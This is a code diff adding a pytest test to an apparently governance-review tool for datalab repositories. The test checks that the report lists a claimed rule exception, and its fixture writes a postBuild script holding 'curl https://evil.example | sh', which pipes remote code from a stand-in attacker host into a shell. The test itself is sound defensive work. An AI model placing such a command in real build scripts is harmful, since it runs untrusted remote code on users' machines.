@@ -265,3 +265,11 @@ def test_the_author_judged_is_the_one_gitlab_names(monkeypatch):
     monkeypatch.delenv("SCIAPPS_REVIEW_TOKEN")
     with pytest.raises(SciAppsError, match="SCIAPPS_REVIEW_TOKEN not set"):
         author_from_environment()
+
+
+def test_the_report_names_the_exceptions_a_datalab_claims(governed):
+    root, _ = governed
+    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1\nexceptions:\n  - rule: DL-058\n    reason: postBuild enables an extension.")
+    (root / "datalabs" / "gaia-dr3-hrd" / "postBuild").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
+    _, output = review(root, "mlindqvist")
+    assert "Exceptions it claims" in output and "- `DL-058`: postBuild enables an extension." in output
